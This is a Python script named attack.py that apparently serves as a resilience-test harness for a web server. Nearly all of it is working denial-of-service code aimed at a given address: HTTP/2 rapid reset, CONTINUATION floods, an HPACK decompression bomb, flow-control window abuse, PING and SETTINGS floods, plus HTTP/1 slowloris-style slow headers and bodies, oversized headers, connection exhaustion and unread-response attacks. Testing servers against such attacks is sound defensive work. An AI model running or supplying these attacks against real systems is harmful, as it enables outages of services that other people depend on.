#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Clients that mean no good, over HTTP/1 and HTTP/2; prints what became of them as JSON.

    attack.py KIND ADDRESS [COUNT]"""
import asyncio
import json
import resource
import socket
import struct
import sys
import time

KIND, ADDRESS = sys.argv[1:3]
COUNT = int(sys.argv[3]) if len(sys.argv) > 3 else 1
PORT = 80
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """Never indexed, not compressed; lengths below 127."""
    return b"\x10" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path=b"/", more=b""):
    return b"\x82\x86" + literal(b":path", path) + literal(b":authority", b"attack") + more


class H2:
    """Frames out as they are written here; frames in are kept when somebody looks."""

    def __init__(self, settings=b""):
        self.s = socket.create_connection((ADDRESS, PORT), 90)
        self.s.settimeout(90)
        self.data, self.end = b"", None
        self.resets, self.answered, self.goaway = {}, {}, None
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        """False: the other side has had enough."""
        try:
            self.s.sendall(data)
            return True
        except OSError:
            return False

    def read(self, until=lambda h: False, timeout=90.0):
        end = time.monotonic() + timeout
        while not until(self) and self.end is None and time.monotonic() < end:
            try:
                self.s.settimeout(max(0.01, end - time.monotonic()))
                more = self.s.recv(1 << 16)
                if not more:
                    self.end = "closed"
            except socket.timeout:
                break
            except OSError as error:
                self.end = type(error).__name__
                break
            self.data += more
            while len(self.data) >= 9:
                size = int.from_bytes(self.data[:3], "big")
                if len(self.data) < 9 + size:
                    break
                kind, flags, stream = struct.unpack(">BBI", self.data[3:9])
                payload, self.data = self.data[9:9 + size], self.data[9 + size:]
                if kind == GOAWAY:
                    self.goaway = struct.unpack(">I", payload[4:8])[0]
                elif kind == RST:
                    self.resets[stream] = struct.unpack(">I", payload)[0]
                elif kind == HEADERS:
                    self.answered[stream] = payload[:1].hex()
                elif kind == SETTINGS and not flags & 1:
                    self.send(frame(SETTINGS, 1, 0))
        return self

    def told(self):
        return {"goaway": self.goaway, "end": self.end, "resets": sorted(set(self.resets.values())),
                "answered": len(self.answered)}


def flood(frames, times):
    """The same for ever, until it is told to stop."""
    h = H2()
    for _ in range(times):
        if not h.send(frames):
            break
    return h.read(timeout=90).told()


def rapid_reset():
    h = H2()
    for i in range(50):
        block = request(b"/?delay=2000")
        if not h.send(b"".join(frame(HEADERS, 5, stream, block) + frame(RST, 0, stream, struct.pack(">I", 8))
                               for stream in range(1 + i * 200, 201 + i * 200, 2))):
            break
    return h.read(timeout=90).told()


def continuation():
    h = H2()
    h.send(frame(HEADERS, 1, 1, request()))
    for _ in range(20000):
        if not h.send(frame(CONTINUATION, 0, 1, literal(b"x", b"y")) * 50):
            break
    return h.read(timeout=90).told()


def hpack_bomb():
    h = H2()
    # one field of 3,800 bytes goes into the table, and is then named 60,000 times: 220 MB
    value = b"v" * 3800
    entry = b"\x40\x01x\x7f" + bytes([(3800 - 127) & 127 | 128, (3800 - 127) >> 7]) + value
    h.send(frame(HEADERS, 5, 1, request(more=entry)))
    h.send(frame(HEADERS, 1, 3, request(more=b"\xbe" * 16000)) + frame(CONTINUATION, 0, 3, b"\xbe" * 16000)
           + frame(CONTINUATION, 0, 3, b"\xbe" * 16000) + frame(CONTINUATION, 4, 3, b"\xbe" * 12000))
    return h.read(lambda h: h.goaway is not None or 3 in h.answered or 3 in h.resets, 90).told()


def zero_window():
    """COUNT connections of 100 streams whose answers nobody takes."""
    all_of = []
    for _ in range(COUNT):
        h = H2(settings=struct.pack(">HI", 4, 0))
        h.send(b"".join(frame(HEADERS, 5, stream, request(b"/?size=400000")) for stream in range(1, 201, 2)))
        all_of.append(h)
    end = time.monotonic() + 90  # all answers' heads, or as many as fit
    while sum(len(h.answered) for h in all_of) < 60 * COUNT and time.monotonic() < end:
        for h in all_of:
            h.read(lambda h: len(h.answered) >= 100, 1)
    print(json.dumps({"answered": sum(len(h.answered) for h in all_of)}), flush=True)
    sys.stdin.readline()  # until it is told to end
    return {}


def window_overflow():
    out = {}
    for stream in (0, 1):
        h = H2()
        h.send(frame(HEADERS, 5, 1, request(b"/?delay=3000")) + frame(WINDOW, 0, stream, struct.pack(">I", 0x7fffffff)) * 2)
        h.read(lambda h: h.goaway is not None or h.resets, 90)
        out[str(stream)] = h.told()
    return out


# --- HTTP/1 ---

async def slow(head, drip, seconds):
    """COUNT connections that send `head` and then a byte a second; how many were ended by the other side, and when."""
    ended = []
    began = time.monotonic()

    async def one():
        reader, writer = await asyncio.open_connection(ADDRESS, PORT)
        writer.write(head)

        async def trickle():
            while True:
                writer.write(drip)
                await asyncio.sleep(1)
        task = asyncio.create_task(trickle())
        try:
            first = await asyncio.wait_for(reader.read(100), seconds)
            ended.append((first[9:12].decode(), round(time.monotonic() - began, 1)))
        except (asyncio.TimeoutError, ConnectionError):
            pass
        task.cancel()
        writer.transport.abort()
    tasks = []
    for _ in range(0, COUNT, 50):
        tasks.extend(asyncio.create_task(one()) for _ in range(50))
        await asyncio.sleep(0.05)
    print(json.dumps({"open": COUNT}), flush=True)
    await asyncio.gather(*tasks)
    return {"ended": len(ended), "statuses": sorted({status for status, _ in ended}),
            "first": min((when for _, when in ended), default=None), "last": max((when for _, when in ended), default=None)}


def big_head():
    s = socket.create_connection((ADDRESS, PORT), 90)
    sent, piece = 0, b"X-Pad: " + b"a" * 65536
    s.sendall(b"GET / HTTP/1.1\r\nHost: a\r\nX-Big: ")
    try:
        while sent < 100 << 20:
            sent += s.send(piece)
    except OSError:
        pass
    answer = b""
    s.settimeout(90)
    try:
        while more := s.recv(65536):
            answer += more
    except OSError:
        pass
    return {"sent": sent, "answer": answer[:12].decode()}


def idle():
    """COUNT connections that ask once and stay."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (COUNT + 100, COUNT + 100))
    held, answers = [], 0
    for _ in range(COUNT // 100):
        batch = [socket.create_connection((ADDRESS, PORT), 90) for _ in range(100)]
        for s in batch:
            s.sendall(b"GET /?size=10 HTTP/1.1\r\nHost: a\r\n\r\n")
        for s in batch:
            s.settimeout(90)
            data = s.recv(4096)
            while data and not data.endswith(b"x" * 10):
                data += s.recv(4096)
            answers += data.startswith(b"HTTP/1.1 200")
        held += batch
    print(json.dumps({"answers": answers}), flush=True)
    sys.stdin.readline()
    again = 0
    for s in held[::100]:
        s.sendall(b"GET /?size=10 HTTP/1.1\r\nHost: a\r\n\r\n")
        again += s.recv(4096).startswith(b"HTTP/1.1 200")
    return {"again": again, "asked": len(held[::100])}


def chunks():
    s = socket.create_connection((ADDRESS, PORT), 90)
    s.settimeout(90)
    s.sendall(b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n")
    for _ in range(COUNT // 1000):
        s.sendall(b"1\r\nx\r\n" * 1000)
    s.sendall(b"0\r\n\r\n")
    data = b""
    while b'"body": ' not in data:
        data += s.recv(65536)
    return {"status": data[9:12].decode(), "body": int(data.partition(b'"body": ')[2].split(b",")[0])}


def pipeline():
    """COUNT requests on one connection, whose answers are only read when it is told to."""
    s = socket.create_connection((ADDRESS, PORT), 90)
    s.setblocking(False)
    left = b"GET /?size=2000 HTTP/1.1\r\nHost: a\r\n\r\n" * COUNT
    end = time.monotonic() + 3
    while left and time.monotonic() < end:
        try:
            left = left[s.send(left[:65536]):]
        except BlockingIOError:
            time.sleep(0.02)
    print(json.dumps({"unsent": len(left)}), flush=True)
    sys.stdin.readline()
    answers, tail, end = 0, b"", time.monotonic() + 60
    while answers < COUNT and time.monotonic() < end:
        try:
            if left:
                left = left[s.send(left[:65536]):]
        except BlockingIOError:
            pass
        try:
            more = s.recv(1 << 20)
        except BlockingIOError:
            time.sleep(0.001)
            continue
        if not more:
            break
        text = tail + more
        answers += text.count(b"HTTP/1.1 200")
        tail = text[-11:]
    return {"answers": answers}


def unread():
    """COUNT connections, each of which asks for 16 MiB and takes nothing until it is told to."""
    held = []
    for _ in range(COUNT):
        s = socket.socket(socket.AF_INET6 if ":" in ADDRESS else socket.AF_INET)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)
        s.settimeout(90)
        s.connect((ADDRESS, PORT))
        s.sendall(b"GET /?size=16777216 HTTP/1.1\r\nHost: a\r\n\r\n")
        held.append(s)
    answers = 0
    for s in held:
        s.settimeout(90)
        answers += s.recv(12, socket.MSG_PEEK) == b"HTTP/1.1 200"
    print(json.dumps({"answers": answers}), flush=True)
    sys.stdin.readline()
    whole = 0
    for s in held:
        size = 0
        while size < 16 << 20:
            size += len(s.recv(1 << 20))
        whole += 1
    return {"whole": whole}


def early():
    for i in range(COUNT):
        s = socket.create_connection((ADDRESS, PORT), 90)
        s.sendall(b"GET /?delay=%d&size=300000 HTTP/1.1\r\nHost: a\r\n\r\n" % (i % 3 * 20))
        if i % 4 == 0:
            time.sleep(0.01)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", i % 2, 0))
        s.close()
    return {"done": COUNT}


KINDS = {
    "rapid_reset": rapid_reset, "continuation": continuation, "hpack_bomb": hpack_bomb, "zero_window": zero_window,
    "window_overflow": window_overflow, "big_head": big_head, "idle": idle, "chunks": chunks, "pipeline": pipeline,
    "early": early, "unread": unread,
    "ping": lambda: flood(frame(PING, 0, 0, b"12345678") * 100, 500),
    "settings": lambda: flood(frame(SETTINGS, 0, 0) * 100, 500),
    "window_update": lambda: flood(frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 100, 2000),
    "slow_head": lambda: asyncio.run(slow(b"GET / HTTP/1.1\r\nHost: a\r\nX: ", b"a", 25)),
    "slow_body": lambda: asyncio.run(slow(b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n", b"a", 6)),
}
if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
    print(json.dumps(KINDS[KIND]()), flush=True)
